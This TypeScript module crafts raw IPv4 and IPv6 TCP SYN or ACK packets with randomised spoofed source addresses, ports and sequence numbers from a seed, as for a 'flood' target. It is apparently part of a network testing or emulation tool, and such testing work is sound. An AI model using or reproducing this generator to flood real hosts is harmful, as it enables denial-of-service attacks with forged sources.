/** TCP segments of nobody, made from a seed. Pure: bytes in, bytes out. */
import { isIPv6 } from 'node:net';
import ipaddr from 'ipaddr.js';
import { seededChance } from '../delay/delay-line.ts';

export interface FloodTarget {
  readonly host: string;
  readonly port: number;
  /** Sources, as prefix: `203.0.113.192/26`. */
  readonly sources: string;
  readonly segment: 'syn' | 'ack';
}

const TCP = 6;
const TCP_BYTES = 20;
const IPV4_BYTES = 20;
const IPV6_BYTES = 40;
const SYN = 0x02;
const ACK = 0x10;
const TTL = 64;
/** IPv6 prefixes are large; this many of their addresses are used. */
const SOURCES_MAX = 65_536;
const PORT_MIN = 1_024;

/** Sum of 16-bit words, RFC 1071; `bytes` of even length. */
function sum(bytes: Buffer): number {
  let total = 0;
  for (let at = 0; at < bytes.length; at += 2) total += bytes.readUInt16BE(at);
  return total;
}

function fold(total: number): number {
  let folded = total;
  while (folded > 0xffff) folded = (folded & 0xffff) + Math.floor(folded / 0x10000);
  return ~folded & 0xffff;
}

/** Ends the checksum of a TCP segment: 0 for one whose checksum field is right. */
export function tcpChecksum(source: Buffer, target: Buffer, tcp: Buffer): number {
  return fold(sum(source) + sum(target) + TCP + tcp.length + sum(tcp));
}

/**
 * A generator of whole IP packets; each call fills the same buffer. The same seed gives the same
 * packets. For IPv4 the kernel fills in the header's checksum and the identification (raw(7)).
 * @throws Error when the target or the prefix is no address.
 */
export function segmentSource(target: FloodTarget, seed: number): () => Buffer {
  const v6 = isIPv6(target.host);
  const chance = seededChance(seed);
  const below = (limit: number) => Math.floor(chance() * limit);
  const [network, bits] = ipaddr.parseCIDR(target.sources);
  const base = Buffer.from(network.toByteArray());
  const room = base.length * 8 - bits;
  const sources = room >= 16 ? SOURCES_MAX : 2 ** room;
  const to = Buffer.from(ipaddr.parse(target.host).toByteArray());
  const headerBytes = v6 ? IPV6_BYTES : IPV4_BYTES;
  const packet = Buffer.alloc(headerBytes + TCP_BYTES);
  if (v6) {
    packet[0] = 0x60;
    packet.writeUInt16BE(TCP_BYTES, 4);
    packet[6] = TCP;
    packet[7] = TTL;
    to.copy(packet, 24);
  } else {
    packet[0] = 0x45;
    packet.writeUInt16BE(packet.length, 2);
    packet[8] = TTL;
    packet[9] = TCP;
    to.copy(packet, 16);
  }
  const source = packet.subarray(v6 ? 8 : 12, v6 ? 24 : 16);
  base.copy(source);
  const tcp = packet.subarray(headerBytes);
  tcp.writeUInt16BE(target.port, 2);
  tcp[12] = (TCP_BYTES / 4) << 4;
  tcp[13] = target.segment === 'syn' ? SYN : ACK;
  tcp.writeUInt16BE(0xffff, 14);
  const last = base.length - 2;
  return () => {
    source.writeUInt16BE((base.readUInt16BE(last) | below(sources)) & 0xffff, last);
    tcp.writeUInt16BE(PORT_MIN + below(0x10000 - PORT_MIN), 0);
    tcp.writeUInt32BE(below(2 ** 32), 4);
    tcp.writeUInt32BE(target.segment === 'ack' ? below(2 ** 32) : 0, 8);
    tcp.writeUInt16BE(0, 16);
    tcp.writeUInt16BE(tcpChecksum(source, to, tcp), 16);
    return packet;
  };
}
